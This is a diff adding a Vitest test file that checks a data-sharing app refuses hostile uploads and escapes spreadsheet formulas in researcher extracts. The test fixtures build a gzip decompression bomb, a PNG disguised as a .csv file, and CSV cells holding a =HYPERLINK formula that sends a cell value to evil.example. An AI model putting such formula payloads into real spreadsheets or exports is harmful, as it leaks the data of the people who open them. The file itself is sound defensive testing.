@@ -1,0 +1,120 @@
+import { gzipSync } from "node:zlib";
+import { execFile } from "node:child_process";
+import { mkdtemp, rm, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import path from "node:path";
+import { promisify } from "node:util";
+import { parseUnits } from "ethers";
+import Papa from "papaparse";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { getEnv } from "~/env";
+import { createExtract } from "~/server/services/extracts/create-extract";
+import { getExtractFile } from "~/server/services/extracts/get-extract-file";
+import type { SessionUser } from "~/server/session";
+import { createHarness, listingInput, type Harness } from "./harness";
+
+/** Hostile files: compressed bombs, binaries named .csv, and formulas aimed at spreadsheets. */
+let harness: Harness;
+let participant: SessionUser;
+let work: string;
+
+beforeAll(async () => {
+  harness = await createHarness();
+  participant = await harness.createUser("PARTICIPANT");
+  work = await mkdtemp(path.join(tmpdir(), "upload-attacks-"));
+});
+
+afterAll(async () => {
+  await harness.close();
+  await rm(work, { recursive: true, force: true });
+});
+
+async function refused(file: Buffer, fileName: string): Promise<string> {
+  const uploadsBefore = await harness.db.upload.count();
+  const error = await harness.upload(participant, file, fileName).then(
+    () => null,
+    (caught: unknown) => caught as Error,
+  );
+  expect(await harness.db.upload.count()).toBe(uploadsBefore);
+  return error?.message ?? "accepted";
+}
+
+describe("hostile uploads", () => {
+  it("refuses a compressed bomb without inflating it, and a binary named .csv", async () => {
+    // 200 MB of zeros in about 200 kB: refused from its first bytes, never decompressed.
+    const bomb = gzipSync(Buffer.alloc(200 * 1024 * 1024), { level: 9 });
+    expect(bomb.length).toBeLessThan(1024 * 1024);
+    const memoryBefore = process.memoryUsage().rss;
+    expect(await refused(bomb, "measurements.csv")).toMatch(/binary file|not UTF-8/);
+    expect(process.memoryUsage().rss - memoryBefore).toBeLessThan(100 * 1024 * 1024);
+    const png = Buffer.concat([
+      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]),
+      Buffer.from("IHDR"),
+    ]);
+    expect(await refused(png, "vitals.csv")).toMatch(/binary file/);
+  });
+
+  it("escapes formulas in the researcher's extract, and the verifier still matches it", async () => {
+    const rows = Array.from(
+      { length: 6 },
+      (_, index) => `P${index},2022,=HYPERLINK("https://evil.example/?"&A1;"open"),-${index + 1}`,
+    );
+    const upload = await harness.upload(
+      participant,
+      ["pseudonym,year,site,delta", ...rows].join("\n"),
+    );
+    const { id: listingId } = await harness
+      .callerFor(participant)
+      .listings.createDraft(listingInput(upload.id, { price: "1" }));
+    await harness.act(participant, { type: "listing.publish", listingId });
+    const researcher = await harness.createUser("RESEARCHER");
+    await harness.mintTokens(researcher.walletAddress, parseUnits("10", 18));
+    await harness.settle();
+    const { id: requestId } = await harness.callerFor(researcher).requests.createDraft({
+      listingIds: [listingId],
+      purpose: "ACADEMIC_RESEARCH",
+      planText: "Site effects on blood pressure, pooled.",
+      accessDays: 30,
+    });
+    await harness.act(researcher, { type: "request.create", requestId });
+    await harness.settle();
+    const { db, chain } = harness;
+    const extract = await createExtract({
+      db,
+      chain,
+      researcherId: researcher.id,
+      requestId,
+      k: 2,
+    });
+    await harness.settle();
+    const file = (name: "csv" | "manifest") =>
+      getExtractFile({ db, chain, researcherId: researcher.id, extractId: extract.id, file: name });
+    const csv = (await file("csv")).body.toString("utf8");
+    const cells = Papa.parse<string[]>(csv.trim()).data.flat();
+    expect(cells.some((cell) => cell.startsWith(`'=HYPERLINK`))).toBe(true);
+    expect(cells.filter((cell) => /^[=+@]/.test(cell))).toEqual([]);
+    expect(cells).toContain("-1");
+
+    const manifestFile = path.join(work, "manifest.json");
+    const csvFile = path.join(work, "extract.csv");
+    await writeFile(manifestFile, (await file("manifest")).body);
+    await writeFile(csvFile, csv);
+    const { stdout } = await promisify(execFile)(
+      "npm",
+      [
+        "run",
+        "--silent",
+        "verify",
+        "--",
+        "extract",
+        manifestFile,
+        "--csv",
+        csvFile,
+        "--rpc",
+        getEnv().CHAIN_RPC_URL,
+      ],
+      { cwd: path.resolve(import.meta.dirname, "../..") },
+    );
+    expect(JSON.parse(stdout.trim().split("\n").at(-1)!)).toMatchObject({ csvRootMatches: true });
+  });
+});
